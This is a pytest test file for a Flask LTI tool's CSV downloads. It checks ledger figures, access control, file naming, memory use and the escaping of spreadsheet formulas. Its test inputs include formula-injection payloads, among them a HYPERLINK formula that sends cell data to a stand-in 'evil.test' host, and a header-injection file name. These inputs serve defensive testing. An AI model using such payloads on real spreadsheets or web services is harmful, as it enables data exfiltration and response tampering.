"""Lists as CSV: what the books have, for whom the page is, in both ways of being known, and nothing that runs."""

import csv
import io
import tracemalloc
from collections.abc import Iterator, Sequence
from datetime import timedelta

import pytest
from flask.testing import FlaskClient
from sqlalchemy import select, text
from werkzeug.test import TestResponse

from lti_tool import clock
from lti_tool.ledger.allotment import allot
from lti_tool.ledger.pools import Pool
from lti_tool.ledger.transfers import Transfer
from lti_tool.licenses.licenses import License
from lti_tool.lti.platforms import Deployment
from lti_tool.lti.roles import Role
from lti_tool.members.people import Person
from lti_tool.purchasing.orders import Order
from lti_tool.web import csv_out
from lti_tool.web.csv_out import Cell
from tests.factories import EXPORT_CREDITS, NOW, make_context, make_member, make_order
from tests.filling import fill_course
from tests.web.conftest import Enter, School
from tests.web.pages import get

MEMBERS, HISTORY, PURCHASES = "/manager/members", "/manager/history", "/manager/purchases"


def form_of(client: FlaskClient, page: str) -> dict[str, str]:
    """What a page's form brings along, its visit among it."""
    form = get(client, page).form("")
    assert form.method == "post"
    return dict(form.fields)


def download(client: FlaskClient, page: str) -> TestResponse:
    """Presses the page's button in a browser that sends nothing but the form."""
    shown = get(client, page)
    [button] = shown.find("button", form="download")
    bare = client.application.test_client()
    sent = dict(shown.form("").fields)
    return bare.post(button["formaction"], data=sent, base_url="https://tool.test", buffered=True)


def read(answer: TestResponse) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.text
    assert answer.data.startswith(b"\xef\xbb\xbf")
    assert answer.content_length == len(answer.data)
    return list(csv.DictReader(io.StringIO(answer.data.decode("utf-8-sig"), newline="")))


def give(school: School, *member_ids: str, each: int = 5, note: str | None = None) -> None:
    with school.books() as books:
        allot(
            books,
            school.license,
            EXPORT_CREDITS,
            member_ids=list(member_ids),
            each=each,
            actor=school.actor,
            now=NOW,
            note=note,
        )


def foreigner(school: School) -> str:
    """A student of another course of the license, which the teacher does not teach."""
    with school.books() as books:
        course = make_context(books, books.get_one(Deployment, school.deployment), title="Chemistry")
        return make_member(books, books.get_one(License, school.license), course, name="Carl Secret").id


def test_members_are_what_the_books_have(teacher: FlaskClient, school: School) -> None:
    carl = foreigner(school)
    give(school, school.ada, school.emmy, carl)
    give(school, school.emmy, each=7)
    rows = {row["Member id"]: row for row in read(download(teacher, f"{MEMBERS}?show=all"))}
    assert set(rows) == {school.teacher, school.ta, school.ada, school.emmy}
    for member_id, row in rows.items():
        account = school.account(member_id)
        figures = tuple(int(row[head]) for head in ("Received", "Used", "Reserved", "Available"))
        assert figures == (account.received, account.used, account.held, account.balance - account.held)
    assert rows[school.ada] | {"Name": "Ada Łovelace", "Courses": "Biology 9", "Role": "student"} == rows[school.ada]


def test_the_button_keeps_the_filter_and_the_order(teacher: FlaskClient, school: School) -> None:
    give(school, school.emmy)
    assert read(download(teacher, f"{MEMBERS}?search=e&sort=-received"))[0]["Name"] == "Emmy Noether"
    assert [row["Name"] for row in read(download(teacher, f"{MEMBERS}?search=ada"))] == ["Ada Łovelace"]


def test_the_history_adds_up_to_the_pool_and_names_nobody_out_of_reach(teacher: FlaskClient, school: School) -> None:
    carl = foreigner(school)
    give(school, school.ada, carl, note="for the film")
    give(school, school.emmy, each=7)
    answer = download(teacher, HISTORY)
    rows = read(answer)
    with school.books() as books:
        pool = books.get_one(Pool, (school.license, EXPORT_CREDITS.name)).balance
        assert len(rows) == len(books.scalars(select(Transfer.id)).all())
    assert sum(int(row["Change of the license"]) for row in rows) == pool == int(rows[0]["Left in the license"])
    assert [row["Change of the license"] for row in rows] == ["-7", "-5", "-5", "100"]
    assert {row["Who"] for row in rows[1:3]} == {"Ada Łovelace", "Somebody in another course"}
    assert {row["By"] for row in rows} == {"Grace Okonkwo", "the operator"}
    assert rows[1]["Note"] == "for the film"
    assert rows[0]["When (UTC)"] == f"{NOW:%Y-%m-%dT%H:%M:%SZ}"
    assert "Carl" not in answer.text
    assert carl not in answer.text


def test_a_past_day_is_downloaded_as_its_page_shows_it(teacher: FlaskClient, school: School) -> None:
    give(school, school.ada)
    day = f"{NOW:%Y-%m-%d}"
    then = {row["Member id"]: row["Available"] for row in read(download(teacher, f"{HISTORY}?date={day}"))}
    assert then[school.ada] == "5"
    before = f"{NOW - timedelta(days=1):%Y-%m-%d}"
    assert {row["Available"] for row in read(download(teacher, f"{HISTORY}?date={before}"))} == {"0"}
    wrong = teacher.post("/manager/download/history?date=tomorrow", data=form_of(teacher, HISTORY))
    assert (wrong.status_code, wrong.mimetype) == (422, "text/html")


def test_orders_have_their_money_as_numbers(teacher: FlaskClient, school: School) -> None:
    with school.books() as books:
        license_ = books.get_one(License, school.license)
        made = [make_order(books, license_, status=status) for status in ("draft", "placed", "cancelled")]
        numbers = [order.number for order in made]
    rows = read(download(teacher, PURCHASES))
    assert [row["Order"] for row in rows] == numbers[::-1]
    with school.books() as books:
        for row in rows:
            order = books.scalars(select(Order).where(Order.number == row["Order"])).one()
            assert [row["Credits"], row["Currency"]] == [str(order.quantity), order.currency]
            assert round(float(row["Total"]) * 100) == order.total


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n",
        "  =1",
        '"=1',
        "'=1",
        " \u201c=1",
        "＝1",
        "＋1",
        "－1",
        "＠x",
    ],
)
def test_what_looks_like_a_formula_is_text(cell: str) -> None:
    assert csv_out.written(cell) == f"'{cell}"


@pytest.mark.parametrize(
    ("cell", "text"),
    [("x;=1+1", "x;'=1+1"), ("x; \u201c@A1;\t=2", "x;' \u201c@A1;\t'=2"), ("x\n=1", "x\n'=1"), ("=1;+1", "'=1;'+1")],
)
def test_nor_does_it_run_where_a_spreadsheet_takes_semicolons_or_lines_for_the_ends_of_cells(
    cell: str, text: str
) -> None:
    assert csv_out.written(cell) == text


@pytest.mark.parametrize("cell", ["a; b", "O'Neil; x", "Ada = Grace", "O'Neil", "“so”", "1-2", "", -5, 0, None])
def test_what_does_not_is_left_alone(cell: Cell) -> None:
    assert csv_out.written(cell) == cell


def test_a_name_that_looks_like_a_formula_comes_back_whole(teacher: FlaskClient, school: School) -> None:
    name = '=HYPERLINK("https://evil.test?x="&A1,"Ada, the \n first")'
    with school.books() as books:
        books.scalars(select(Person).where(Person.name == "Ada Łovelace")).one().name = name
    give(school, school.ada)
    assert f"'{name}" in [row["Name"] for row in read(download(teacher, MEMBERS))]
    assert f"'{name}" in [row["Who"] for row in read(download(teacher, HISTORY))]


def test_the_file_has_a_name_of_its_own_and_is_kept_nowhere(teacher: FlaskClient, school: School) -> None:
    with school.books() as books:
        books.get_one(License, school.license).name = 'Escuela "Ñandú"; /etc\r\nX: y'
    answer = download(teacher, HISTORY)
    day = f"{clock.now():%Y-%m-%d}"
    assert answer.headers["Content-Disposition"] == (
        f"attachment; filename=history-Escuela-Nandu-etc-X-y-{day}.csv;"
        f" filename*=UTF-8''history-Escuela-%C3%91and%C3%BA-etc-X-y-{day}.csv"
    )
    assert answer.content_type == "text/csv; charset=utf-8; header=present"
    assert answer.headers["Cache-Control"] == "no-store"


def test_only_those_whom_the_page_is_for_get_its_file(teacher: FlaskClient, school: School, enter: Enter) -> None:
    managers = form_of(teacher, HISTORY)
    enter(teacher, school.visit(school.ta, Role.TA))
    helpers = form_of(teacher, MEMBERS)
    assert read(download(teacher, MEMBERS))
    for path in ("history", "purchases"):
        refused = teacher.post(f"/manager/download/{path}", data=helpers)
        assert (refused.status_code, refused.mimetype) == (403, "text/html")
    for path in ("members", "history", "purchases"):
        assert teacher.get(f"/manager/download/{path}").status_code == 405
        for visit in ("", "forged", managers["visit"][:-2]):  # a cookie alone does nothing
            assert teacher.post(f"/manager/download/{path}", data=managers | {"visit": visit}).status_code in (400, 401)
    # An old page stays with its own visit, whoever launched after it in this browser.
    sent = teacher.post("/manager/download/history", data=managers, buffered=True)
    assert read(sent)
    assert "Set-Cookie" not in sent.headers


def test_an_error_in_any_row_is_no_file(teacher: FlaskClient) -> None:
    def broken() -> Iterator[Sequence[Cell]]:
        yield ("whole",)
        raise ValueError("the second row")

    with teacher.application.test_request_context(), pytest.raises(ValueError, match="the second row"):
        csv_out.send("list", NOW, ["Head"], broken())


def test_memory_does_not_grow_with_the_list(teacher: FlaskClient, school: School) -> None:
    form = form_of(teacher, MEMBERS)
    with school.books() as books:
        fill_course(
            books, school.license, EXPORT_CREDITS.name, school.course, school.platform, count=6_000, now=clock.now()
        )

        books.execute(text("analyze"))

    def peak(query: str) -> tuple[int, int]:
        tracemalloc.start()
        try:
            answer = teacher.post(f"/manager/download/members?{query}", data=form)
            most = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
        size = answer.content_length or 0
        answer.close()
        return size, most

    few, with_few = peak("search=student+1")  # some 1,100: the look at all of them is in both
    many, with_many = peak("")
    assert many > 3 * few
    assert with_many < with_few + 1_500_000, (with_few, with_many)
